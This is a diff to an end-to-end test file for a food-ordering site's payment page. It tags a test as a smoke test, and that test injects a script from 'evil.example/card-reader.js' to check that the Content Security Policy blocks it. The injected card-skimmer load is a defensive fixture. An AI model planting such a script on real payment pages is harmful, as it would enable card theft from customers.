@@ -5,7 +5,7 @@ import { brandWithContent } from '../scenarios/brands.ts';
 import { CARDS } from '../scenarios/cards.ts';
 import { ARMS, atFood, goToPay, OLIVES, readyToPay, withOlives } from '../scenarios/ordering.ts';
 import { readyForWallet } from '../scenarios/wallets.ts';
-import { expect, test } from '../test.ts';
+import { expect, SMOKE, test } from '../test.ts';
 
 /** Documents that the page has loaded, by path, each with its policy. */
 function documentsOf(page: Page): { readonly path: string; readonly policy: string }[] {
@@ -159,22 +159,22 @@ test.describe('an allergen prompt that was answered', () => {
   });
 });
 
-test('H39: a script of somebody else’s is refused on the page that takes cards', async ({
-  guest,
-  page,
-  watch,
-}) => {
-  await readyToPay(guest);
-  await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.src = 'https://evil.example/card-reader.js';
-    document.head.append(script);
-  });
-  await expect
-    .poll(() => watch.seen)
-    .toContainEqual(expect.stringContaining('script-src-elem https://evil.example'));
-  watch.provokes(...watch.seen);
-});
+test(
+  'H39: a script of somebody else’s is refused on the page that takes cards',
+  { tag: SMOKE },
+  async ({ guest, page, watch }) => {
+    await readyToPay(guest);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/card-reader.js';
+      document.head.append(script);
+    });
+    await expect
+      .poll(() => watch.seen)
+      .toContainEqual(expect.stringContaining('script-src-elem https://evil.example'));
+    watch.provokes(...watch.seen);
+  },
+);
 
 test('the page of the card’s own bank is asked for by a form and shown, wherever that bank is', async ({
   guest,
